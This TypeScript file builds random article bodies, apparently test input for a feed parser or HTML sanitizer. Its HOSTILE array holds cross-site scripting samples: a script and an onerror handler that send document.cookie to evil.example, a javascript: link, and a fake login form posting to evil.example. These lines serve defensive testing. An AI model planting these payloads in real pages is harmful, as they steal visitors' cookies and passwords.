import type { Rng } from "./prng";
import { sentence, word } from "./words";

/** How to build one article body. */
export interface ContentOptions {
  /** The article's absolute URL; some links and images are relative to it. */
  url: string;
  /** Rough size of the body in characters. */
  targetLength: number;
  /** Well-formed XML with numeric entities only (Atom xhtml content); else HTML entities too. */
  xml: boolean;
  /** Whether to slip in script, event handlers, javascript: links, iframes, tracking pixels. */
  hostile: boolean;
}

const HTML_ENTITIES = ["&nbsp;", "&mdash;", "&eacute;", "&hellip;", "&amp;", "&#8217;", "&euro;"];
const XML_ENTITIES = ["&#160;", "&#8212;", "&#233;", "&amp;", "&#8217;", "&lt;3"];

const HOSTILE = [
  '<script>document.location = "//evil.example/?c=" + document.cookie</script>',
  '<p onclick="steal(document.cookie)">Click to expand the full story.</p>',
  '<a href="javascript:alert(1)">Read more</a>',
  '<img src="https://pixel.example.net/t.gif" width="1" height="1" alt="" />',
  '<iframe src="https://ads.example.net/frame" width="300" height="250"></iframe>',
  "<style>body { display: none }</style>",
  '<img src="/img/x.png" onerror="fetch(\'//evil.example/\'+document.cookie)" alt="x" />',
  '<form action="https://evil.example/login"><input name="pw" /><button>Log in</button></form>',
];

/** Returns an article body of paragraphs, links, images, lists and quotes; well-formed XHTML. */
export function contentHtml(rng: Rng, opts: ContentOptions): string {
  const parts: string[] = [];
  let length = 0;
  while (length < opts.targetLength) {
    const block = contentBlock(rng, opts);
    parts.push(block);
    length += block.length;
  }
  if (opts.hostile) {
    const at = rng.int(0, parts.length);
    parts.splice(at, 0, rng.pick(HOSTILE), rng.pick(HOSTILE));
  }
  return parts.join("\n");
}

function contentBlock(rng: Rng, opts: ContentOptions): string {
  const roll = rng.next();
  if (roll < 0.65) return paragraph(rng, opts);
  if (roll < 0.75) return figure(rng, opts.url);
  if (roll < 0.82) return `<h2>${sentence(rng).slice(0, -1)}</h2>`;
  if (roll < 0.9) return list(rng);
  return `<blockquote cite="${opts.url}"><p>${sentence(rng)}</p></blockquote>`;
}

function paragraph(rng: Rng, opts: ContentOptions): string {
  const sentences = Array.from({ length: rng.int(2, 6) }, () => inline(rng, opts));
  return `<p>${sentences.join(" ")}</p>`;
}

// One sentence, sometimes with a link, emphasis or an entity.
function inline(rng: Rng, opts: ContentOptions): string {
  const text = sentence(rng);
  const roll = rng.next();
  if (roll < 0.15) return `${text} <a href="${link(rng, opts.url)}">${word(rng)} ${word(rng)}</a>.`;
  if (roll < 0.25) return `<strong>${text}</strong>`;
  if (roll < 0.32) return `<em>${text}</em>`;
  if (roll < 0.45)
    return `${text} ${rng.pick(opts.xml ? XML_ENTITIES : HTML_ENTITIES)} ${word(rng)}.`;
  return text;
}

function link(rng: Rng, url: string): string {
  const slug = `${word(rng)}-${rng.int(1, 9999)}`.replace(/[^a-z0-9-]/gi, "x");
  const roll = rng.next();
  if (roll < 0.3) return `/related/${slug}`;
  if (roll < 0.5) return `${new URL(url).origin}/topics/${slug}?utm_source=feed&amp;utm_medium=rss`;
  return `https://other-${rng.int(1, 50)}.example.org/${slug}`;
}

function figure(rng: Rng, url: string): string {
  const src = rng.chance(0.5) ? `/images/${rng.int(1, 99999)}.jpg` : `${url}/photo.jpg`;
  const size = `width="${rng.pick([640, 800, 1200])}" height="${rng.pick([360, 450, 675])}"`;
  const img = `<img src="${src}" alt="${sentence(rng).slice(0, 40)}" ${size} />`;
  return `<figure>${img}<figcaption>${sentence(rng)}</figcaption></figure>`;
}

function list(rng: Rng): string {
  const items = Array.from({ length: rng.int(2, 5) }, () => `<li>${sentence(rng)}</li>`);
  return `<ul>${items.join("")}</ul>`;
}
